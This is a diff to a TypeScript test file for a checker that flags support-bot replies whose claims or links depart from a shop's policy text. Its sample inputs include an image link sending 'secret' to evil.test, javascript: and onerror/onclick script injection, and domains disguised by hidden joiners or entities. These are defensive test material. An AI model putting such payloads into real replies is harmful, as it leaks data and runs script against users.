@@ -8,7 +8,8 @@ You can return items within 30 days of delivery. Refunds are paid to the origina
 Shipping costs $4.99, and is free for orders over 1,000 USD. Express delivery takes 2 weeks at most.
 Our shop in Athens is open Monday to Friday from 9:30 to 17:00, and closed on 24 December 2026.
 Write to help@shop.example, call +30 210 123 4567, or see https://shop.example/returns?lang=en. Ask for Maria Keller.
-The loyalty card gives 15% off. Model AB-1234 weighs 5 kg. There is no warranty on batteries.`
+The loyalty card gives 15% off. Model AB-1234 weighs 5 kg. There is no warranty on batteries.
+Bills are at https://pay.example/bill.`
 
 const evidenceOf = (changes: Partial<Evidence> = {}): Evidence => ({
   ours: [passage],
@@ -41,6 +42,7 @@ const carried: readonly string[] = [
   'We are closed on December 24, 2026.',
   'We are closed on 24/12.',
   'See [our return policy](https://shop.example/returns?lang=en) or https://shop.example/returns?lang=en.',
+  'See [shop.example/returns?lang=en](https://shop.example/returns?lang=en) and <https://pay.example/bill>.',
   'Write to Help@shop.example or call +30 (210) 123-4567.',
   'Unfortunately, there is no warranty on batteries.',
   'With the loyalty card you get 15 percent off.',
@@ -77,6 +79,8 @@ const lies: readonly (readonly [string, string])[] = [
   ['another time', 'We open at 8:30.'],
   ['another half of the day', 'We open at 9:30 pm.'],
   ['another telephone number', 'Call +30 210 123 4568.'],
+  ['a telephone number of carried parts', 'Call +30 210 4567 123.'],
+  ['a code of carried parts', 'The 30AB weighs 5 kg.'],
   ['another code', 'The AB-1235 weighs 5 kg.'],
   ['a name', 'Ask for Bob Miller.'],
   ['a name at the beginning', 'Zyxcorp will help you.'],
@@ -98,9 +102,15 @@ const lies: readonly (readonly [string, string])[] = [
   ['a domain with a hidden joiner', 'Go to evil\u200d.com now.'],
   ['a link behind harmless words', 'See [our return policy](https://evil.test/returns).'],
   ['a link that shows another address', '[shop.example/returns](https://evil.test)'],
+  [
+    'a link that shows one of our addresses and leads to another',
+    '[shop.example/returns?lang=en](https://pay.example/bill)',
+  ],
   ['a link by reference', 'See [our policy][1].\n\n[1]: https://evil.test/x'],
   ['a picture that calls home', '![ok](https://evil.test/?q=secret)'],
   ['a script', '[click](javascript:alert(1))'],
+  ['an entity for a dot', 'Go to evil&period;com now.'],
+  ['a tag without an address', 'You have <b onclick=go>30 days</b>.'],
   ['a tag', 'Hello <img src=x onerror=alert(1)>'],
   ['a telephone link', '[call us](tel:+19005550199)'],
   ['a handle', 'Write to @evil_support on Telegram.'],
@@ -140,6 +150,16 @@ test('addresses are checked at every sensitivity, amounts from low, names from m
     'medium',
     'high',
   ])
+})
+
+test('a number in words is read in whatever language the model was talked into', () => {
+  assert.notEqual(claimIn('vous avez soixante jours pour le retour', 'low'), undefined)
+  assert.equal(claimIn('vous avez trente jours pour le retour', 'low'), undefined)
+})
+
+test('a number does not carry a code that begins with it', () => {
+  assert.notEqual(claimIn('the 30ab weighs 5 kg', 'low'), undefined)
+  assert.equal(claimIn('the ab-1234 weighs 5kg', 'low'), undefined)
 })
 
 test('a deed passes when a tool was called', () => {
